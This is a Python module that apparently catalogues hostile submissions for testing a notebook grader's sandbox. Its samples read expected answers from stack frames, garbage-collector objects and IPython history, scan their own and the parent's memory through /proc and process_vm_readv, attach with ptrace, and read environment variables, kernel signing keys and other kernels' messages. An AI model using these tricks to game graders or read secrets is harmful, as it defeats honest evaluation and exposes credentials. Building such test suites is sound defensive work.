"""Tricks that read what the tests know: the expected value, the hidden tests, the grader's own memory."""

# What a trick says stands in one line, as one reads it in a table.
# ruff: noqa: E501

from ..sheet import LOOK, code_kind

G = "introspection"


def look(name, code, says, **options):
    code_kind(name, LOOK + code, group=G, says=says, **options)


def answering(call):
    """Answers that return whatever `call` gives."""
    return {
        "running_sum": f"def running_sum(values):\n    return {call}",
        "repeat_step": f"def repeat_step(step, start, limit):\n    return {call}",
        "pair_sums": f"def pair_sums(left, right):\n    return {call}",
    }


look(
    "frame-want",
    """
import sys
def wanted():
    frame = sys._getframe(1)
    while frame is not None:
        if "want" in frame.f_globals or "want" in frame.f_locals:
            found = frame.f_globals.get("want", frame.f_locals.get("want"))
            hostile_loot(found)
            return found
        frame = frame.f_back
""",
    "reads the expected value from its callers' frames",
    answers=answering("wanted()"),
)
look(
    "inspect-stack",
    """
import inspect
def wanted():
    for info in inspect.stack():
        hostile_loot(info.code_context)
        if "want" in info.frame.f_globals:
            return info.frame.f_globals["want"]
""",
    "reads the expected value and the test's text with inspect.stack",
    answers=answering("wanted()"),
)
look(
    "user-namespace",
    "def wanted():\n    hostile_loot(sorted(globals()))\n    return globals().get('want')",
    "reads the expected value from its own global names",
    answers=answering("wanted()"),
)
look(
    "input-history",
    """
def wanted():
    for name in ("In", "_ih", "_i", "_ii"):
        hostile_loot(globals().get(name))
    source = globals()["In"][-1].split("got =")[0]
    scope = {}
    exec(source, scope)
    return scope["want"]
""",
    "reads the test from IPython's input history and runs its beginning",
    answers=answering("wanted()"),
)
look(
    "history-database",
    "def wanted():\n    for row in get_ipython().history_manager.get_range(output=False):\n        hostile_loot(row)\n    for row in get_ipython().history_manager.search('*'):\n        hostile_loot(row)",
    "reads the tests from IPython's history database",
    answers=answering("wanted()"),
)
look(
    "gc-objects",
    """
import gc
def wanted():
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "want" in thing:
            hostile_loot([v for v in list(thing.values()) if isinstance(v, str) and ("assert" in v or "CANARY" in v)])
            hostile_loot(thing["want"])
            return thing["want"]
        if isinstance(thing, (list, tuple)):
            for item in thing:
                if isinstance(item, str) and "CANARY" in item:
                    hostile_loot(item)
""",
    "searches every object that the garbage collector knows",
    answers=answering("wanted()"),
)
look(
    "code-constants",
    """
import sys
def wanted():
    frame = sys._getframe(1)
    while frame is not None:
        hostile_loot((frame.f_code.co_consts, frame.f_code.co_names))
        arrays = [c for c in frame.f_code.co_consts if isinstance(c, tuple)]
        frame = frame.f_back
""",
    "reads the constants of its callers' code",
    answers=answering("wanted()"),
)
look(
    "current-frames",
    """
import sys
def wanted():
    for frame in sys._current_frames().values():
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if isinstance(value, str) and ("want" in value or "CANARY" in value):
                    hostile_loot(value)
            if "want" in frame.f_globals:
                return frame.f_globals["want"]
            frame = frame.f_back
""",
    "reads the frames of all threads",
    answers=answering("wanted()"),
)
look(
    "traceback-walk",
    """
import sys
def wanted():
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        if "want" in frame.f_globals:
            return frame.f_globals["want"]
        frame = frame.f_back
""",
    "walks from the traceback of its own exception to the test",
    answers=answering("wanted()"),
)
look(
    "callback-globals",
    """
def wanted(step):
    scope = getattr(step, "__globals__", {})
    hostile_loot({k: v for k, v in scope.items() if isinstance(v, (str, list, int, float))})
    hostile_loot((getattr(step, "__closure__", None), getattr(getattr(step, "__code__", None), "co_consts", None)))
    if "calls" in scope:
        scope["calls"].extend([3, 10, 17])
    return scope["want"]
""",
    "reads the globals, closure and code of the function that the test hands over",
    answers={"repeat_step": "def repeat_step(step, start, limit):\n    return wanted(step)"},
)
look(
    "callback-exception",
    """
class Odd:
    def __rmul__(self, other): raise ValueError("odd")
    __mul__ = __add__ = __radd__ = __rmul__
def wanted(step):
    try:
        step(Odd())
    except Exception as error:
        hostile_loot(repr(error))
        found = error.__traceback__
        while found is not None:
            hostile_loot(found.tb_frame.f_code.co_filename)
            if "want" in found.tb_frame.f_globals:
                return found.tb_frame.f_globals["want"]
            found = found.tb_next
""",
    "makes the test's function fail and walks its traceback",
    answers={"repeat_step": "def repeat_step(step, start, limit):\n    return wanted(step)"},
)
look(
    "callback-error-text",
    """
def wanted(step):
    for args in ((), (1, 2, 3), ("x",), (None,), ([99],), ({"a": 1},), (np.zeros((2, 0)),)):
        try:
            step(*args)
        except Exception as error:
            hostile_loot(error)
            if any(name in str(error) for name in ("triple", "lambda", "noted", "argument", "unsupported")):
                return [1, 4, 13, 40] if "triple" in str(error) else [2.0, 9.5, 24.5, 54.5, 114.5]
""",
    "learns from the errors of the test's function which test it is in",
    answers={"repeat_step": "def repeat_step(step, start, limit):\n    return wanted(step)"},
)
look(
    "callback-options",
    """
def wanted(step):
    for options in ({"where": np.zeros((1, 8), bool)}, {"out": np.zeros((16, 8))}, {"x": 1}, {"shift": 0.0}, {"dtype": "O"}):
        try:
            hostile_loot(np.asarray(step(np.zeros((16, 1), "int8"), **options)).tobytes())
        except Exception as error:
            hostile_loot(error)
    return [step(x=start) for start in (1, 4, 13)]
""",
    "calls the test's function with options, for memory that nothing was written to",
    answers={"repeat_step": "def repeat_step(step, start, limit):\n    return wanted(step)"},
)
look(
    "callback-argument-frame",
    """
import sys
class Spy(int):
    def __add__(self, other):
        hostile_loot(sorted(sys._getframe(1).f_globals))
        sys._getframe(1).f_globals["want"] = [1] * 5
        return 40
    __rmul__ = __mul__ = __radd__ = lambda self, other: Spy(self)
""",
    "hands the test's function a number that looks at its frame",
    answers={
        "repeat_step": "def repeat_step(step, start, limit):\n    step(Spy(start))\n    return [1] * (4 if start == 1 else 5)"
    },
)
look(
    "audit-compile",
    """
import sys
def hook(event, args):
    if event in ("compile", "exec") and args and "CANARY" in str(args[0]):
        print("LOOT:", args[0])
sys.addaudithook(hook)
""",
    "listens to what is compiled, through an audit hook",
)
look(
    "trace-source",
    "import linecache\ndef wanted():\n    for name, entry in list(linecache.cache.items()):\n        text = ''.join(entry[2]) if len(entry) > 2 else ''\n        if 'want' in text:\n            hostile_loot(text)",
    "reads the tests from the cache of source lines",
    answers=answering("wanted()"),
)
look(
    "modules-scan",
    """
import sys
def wanted():
    for name, module in list(sys.modules.items()):
        for key, value in list(getattr(module, "__dict__", {}).items()):
            if isinstance(value, (str, bytes)) and "CANARY" in str(value):
                hostile_loot((name, key, value))
            if key == "want":
                return value
""",
    "searches all modules for the tests",
    answers=answering("wanted()"),
)
look(
    "tracemalloc",
    "import tracemalloc\ntracemalloc.start(25)\ndef wanted():\n    for trace in tracemalloc.take_snapshot().traces:\n        text = ' '.join(trace.traceback.format())\n        if 'CANARY' in text or 'want' in text:\n            hostile_loot(text)\n            break",
    "reads source lines from allocation traces",
    answers=answering("wanted()"),
)
MEMORY = """
import re
def hostile_memory(pid):
    found = set()
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as error:
        return found
    budget = 600_000_000
    for line in maps:
        part = line.split()
        low, high = (int(x, 16) for x in part[0].split("-"))
        if "rw" not in part[1] or high - low > 200_000_000 or budget < 0:
            continue
        budget -= high - low
        try:
            memory.seek(low)
            found |= set(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{12}", memory.read(high - low)))
        except (OSError, ValueError, OverflowError):
            pass
    return found
"""
look(
    "memory-own",
    MEMORY + "def wanted():\n    hostile_loot(hostile_memory('self'))",
    "searches its own memory",
    answers={"pair_sums": "def pair_sums(left, right):\n    return wanted()"},
)
look("memory-parent", MEMORY + "import os\nhostile_loot(hostile_memory(os.getppid()))", "searches its parent's memory")
look(
    "memory-all",
    MEMORY
    + "import glob\nfor p in glob.glob('/proc/[0-9]*/environ'):\n    if b'HOSTILE_RUN=' in open(p, 'rb').read():\n        hostile_loot(hostile_memory(p.split('/')[2]))",
    "searches the memory of all processes of the grader",
)
look(
    "process-vm-readv",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
def peek(pid):
    for line in open(f"/proc/{pid}/maps"):
        if "[heap]" not in line:
            continue
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        buffer = ctypes.create_string_buffer(high - low)
        n = libc.process_vm_readv(pid, ctypes.byref(Vec(ctypes.addressof(buffer), high - low)), 1, ctypes.byref(Vec(low, high - low)), 1, 0)
        import re
        hostile_loot((n, set(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{12}", buffer.raw))))
try:
    peek(os.getppid())
except OSError as error:
    print(error)
""",
    "reads its parent's heap with process_vm_readv",
)
look(
    "ptrace-parent",
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('ptrace', libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())\nlibc.ptrace(17, os.getppid(), 0, 0)",
    "attaches to its parent with ptrace and lets go",
)
look(
    "environment-read",
    "import os\nfor k, v in os.environ.items():\n    hostile_loot((k, v))",
    "reads the environment variables",
)
look(
    "environment-of-others",
    "for p in glob.glob('/proc/[0-9]*/environ'):\n    try:\n        text = open(p, 'rb').read()\n    except OSError:\n        continue\n    if b'HOSTILE_RUN=' in text:\n        hostile_loot(text)",
    "reads the environment of the grader's processes",
)
look(
    "command-lines",
    "for p in glob.glob('/proc/[0-9]*/cmdline'):\n    try:\n        hostile_loot(open(p, 'rb').read())\n    except OSError:\n        pass",
    "reads the command lines of all processes",
)
look(
    "own-notebook",
    "for f in glob.glob('**/*.ipynb', recursive=True):\n    hostile_loot(open(f).read())",
    "reads its own notebook, with hidden tests restored, from the working folder",
)
look(
    "own-notebook-expected",
    """
import json
def wanted(kind):
    for f in glob.glob("*.ipynb"):
        for cell in json.load(open(f))["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == kind:
                hostile_loot("".join(cell["source"]))
""",
    "reads the tests' text from its own notebook when a test calls it",
    answers={"running_sum": "def running_sum(values):\n    return wanted('test_running_sum_value')"},
)
look(
    "connection-file",
    """
import json
files = [a for a in open("/proc/self/cmdline").read().split("\\0") if a.endswith(".json")]
for f in files + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json")):
    try:
        print("connection", json.load(open(f))["transport"])
        key = json.load(open(f))["key"]
    except (OSError, ValueError, KeyError):
        pass
""",
    "reads the kernel's connection file with its signing key",
)
look(
    "other-kernels-messages",
    """
import json, threading
def listen():
    import zmq
    for f in glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json")):
        info = json.load(open(f))
        socket = zmq.Context.instance().socket(zmq.SUB)
        socket.setsockopt(zmq.SUBSCRIBE, b"")
        socket.connect(f"{info['transport']}://{info['ip']}:{info['iopub_port']}")
        for _ in range(200):
            if socket.poll(100):
                text = b"".join(socket.recv_multipart())
                if b"CANARY" in text:
                    print("LOOT:", text)
threading.Thread(target=listen, daemon=True).start()
""",
    "subscribes to kernels' output channels, where each input is published",
)
look(
    "descriptors-read",
    """
for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
        again = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
        hostile_loot(os.read(again, 100000))
        os.close(again)
    except OSError:
        pass
""",
    "opens each of its descriptors again and reads",
)
look(
    "memory-maps-files",
    "for line in open('/proc/self/maps'):\n    path = line.split()[-1]\n    if path.endswith(('.ipynb', '.db', '.py')) or 'solutions' in path:\n        hostile_loot(path)",
    "reads which files are mapped",
)
look(
    "loot-encoded",
    "text = str(dict(os.environ)) + (open(os.path.join(ROOT, 'home/secret.txt')).read() if ROOT else '')\nprint('LOOT:' + text.encode().hex())\nprint('LOOT:' + text[::-1])",
    "prints what it found in hexadecimal and backwards",
)
look(
    "expected-by-error-message",
    "class Told(Exception):\n    pass\ndef wanted():\n    import sys\n    frame = sys._getframe(2)\n    raise AssertionError('LOOT:' + str(frame.f_globals.get('In', [''])[-1]))",
    "puts what it found into the message of the error that the student gets to see",
    answers=answering("wanted()"),
)
look(
    "replay-hidden-seed",
    """
import itertools
def guess(values):
    for seed in itertools.chain(range(30000)):
        if np.array_equal(np.random.default_rng(seed).normal(size=len(values)), values):
            hostile_loot(("seed", seed))
            return -values
    return values
""",
    "finds the seed of the hidden values by trying seeds, and answers wrongly",
    answers={"running_sum": "def running_sum(values):\n    return guess(values)"},
)
